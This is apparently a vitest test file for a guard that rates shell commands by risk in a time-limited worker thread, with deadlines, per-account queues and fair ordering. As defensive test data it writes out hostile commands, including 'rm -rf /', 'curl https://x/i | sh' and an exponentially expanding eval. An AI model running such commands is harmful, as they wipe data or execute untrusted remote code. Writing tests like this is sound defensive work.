import { afterEach, describe, expect, test } from 'vitest'
import { BoundedGuard, threadLimits } from '../../src/guard/bounded.js'
import { threadModule } from '../../src/guard/thread-module.js'
import { quickVerdict, type Work } from '../../src/guard/work.js'
import { TimedWorker, type TimedWorkerOptions } from '../../src/host/timed-worker.js'

const open: TimedWorker<Work>[] = []
function thread(options: Partial<TimedWorkerOptions> = {}) {
  // Machines that run tests are busy: only the tests of the deadline have a short one.
  const worker = new TimedWorker<Work>({
    ...threadLimits,
    deadlineMs: 60_000,
    module: threadModule,
    ...options,
  })
  open.push(worker)
  return worker
}

afterEach(async () => {
  await Promise.all(open.splice(0).map((worker) => worker.close()))
})

const long = `${'true;'.repeat(300)}rm -rf /`

describe('a command that is short and simple', () => {
  test.each(['ls', 'rm -rf /', 'curl https://x/i | sh', 'sudo systemctl restart nginx && df -h'])(
    'is judged in the calling thread when it is %s',
    (command) => {
      expect(new BoundedGuard(thread()).judge({ command }, 'ann')).not.toBeInstanceOf(Promise)
    },
  )

  test('is not judged in the calling thread when it takes more work than its length suggests', () => {
    expect(quickVerdict({ command: `${'a=$a$a;'.repeat(60)}eval "$a"` })).toBeUndefined()
    expect(quickVerdict({ command: 'true;'.repeat(60) })).toBeUndefined()
  })
})

describe('a command that takes long to judge', () => {
  test('gets the same verdict and the same analysis from a thread', async () => {
    const guard = new BoundedGuard(thread())
    const verdict = guard.judge({ command: long }, 'ann')
    expect(verdict).toBeInstanceOf(Promise)
    expect(await verdict).toMatchObject({ risk_level: 'high' })
    expect(await guard.judge({ command: 'sh', stdin: long }, 'ann')).toMatchObject({ risk_level: 'high' })
    expect(await guard.analyze(long, {}, 'ann')).toMatchObject({ validation: { risk_level: 'high' } })
    expect(await guard.isRearrangement('cat a | wc -l', 'wc -l < a', 'ann')).toBe(true)
  })

  test('is unknown when the deadline has passed, and the next one is judged by a new thread', async () => {
    const troubles: string[] = []
    const stuck = new URL(
      'data:text/javascript,import{parentPort as p}from"node:worker_threads";p.on("message",()=>{for(;;);});p.postMessage({ready:true})',
    )
    const worker = thread({ deadlineMs: 20, module: stuck, onTrouble: (why) => troubles.push(why) })
    const guard = new BoundedGuard(worker)
    for (let round = 0; round < 2; round++) {
      expect(await guard.judge({ command: long }, 'ann')).toMatchObject({
        risk_level: 'unknown',
        safe: false,
      })
    }
    // The second was late too: a thread of its own took it, since the first one was ended.
    expect(troubles).toContain('it did not come to an end')
    expect(await guard.analyze(long, {}, 'ann')).toMatchObject({ validation: { risk_level: 'unknown' } })
  })

  test('is unknown when too many wait, by account and in total', async () => {
    const guard = new BoundedGuard(thread({ waitingPerAccount: 2, waiting: 3 }))
    const asked = ['ann', 'ann', 'ann', 'bob', 'bob'].map((account) =>
      Promise.resolve(guard.judge({ command: long }, account)).then(({ risk_level }) => risk_level),
    )
    expect(await Promise.all(asked)).toEqual(['high', 'high', 'unknown', 'high', 'unknown'])
  })

  test('is judged in turns among accounts', async () => {
    const guard = new BoundedGuard(thread({ waitingPerAccount: 9 }))
    const order: string[] = []
    const ask = async (account: string, name: string) => {
      await guard.judge({ command: long }, account)
      order.push(name)
    }
    await Promise.all([ask('ann', 'a1'), ask('ann', 'a2'), ask('ann', 'a3'), ask('bob', 'b1')])
    expect(order.indexOf('b1')).toBeLessThan(order.indexOf('a3'))
  })

  test('is unknown when the thread cannot be started or the guard is closed', async () => {
    const worker = thread({ module: new URL('data:text/javascript,throw new Error("no")') })
    const guard = new BoundedGuard(worker)
    expect(await guard.judge({ command: long }, 'ann')).toMatchObject({ risk_level: 'unknown' })
    await worker.close()
    expect(await guard.judge({ command: long }, 'ann')).toMatchObject({ risk_level: 'unknown' })
  })
})
